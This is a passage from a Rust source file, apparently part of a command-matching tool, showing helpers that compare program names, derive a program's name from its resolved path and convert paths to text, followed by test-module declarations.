        return false;
    }
    if CASE_INSENSITIVE_PATHS {
        matcher::name_matches(&last.to_lowercase(), &invoked.to_lowercase())
    } else {
        matcher::name_matches(last, invoked)
    }
}

/// The name a segment's program goes by: the file name it resolved to (so
/// `./head` is `head`), else the word itself.
fn program_name(segment: &Segment) -> &str {
    segment
        .resolution
        .resolved
        .as_deref()
        .and_then(|p| p.file_name())
        .and_then(|n| n.to_str())
        .unwrap_or_else(|| wrappers::basename(&segment.argv[0]))
}

/// `path` as text, lossily where it is not UTF-8.
fn path_string(path: PathBuf) -> String {
    path.into_os_string()
        .into_string()
        .unwrap_or_else(|raw| raw.to_string_lossy().into_owned())
}

#[cfg(test)]
pub(crate) mod tests;

#[cfg(test)]
mod fail_closed_tests;

#[cfg(test)]
mod steps_tests;

#[cfg(test)]
mod segment_tests;

#[cfg(test)]
mod env_tests;

#[cfg(test)]
mod multicall_tests;

#[cfg(test)]
mod prefix_tests;

#[cfg(test)]
mod find_exec_tests;

#[cfg(test)]
mod stdin_tests;
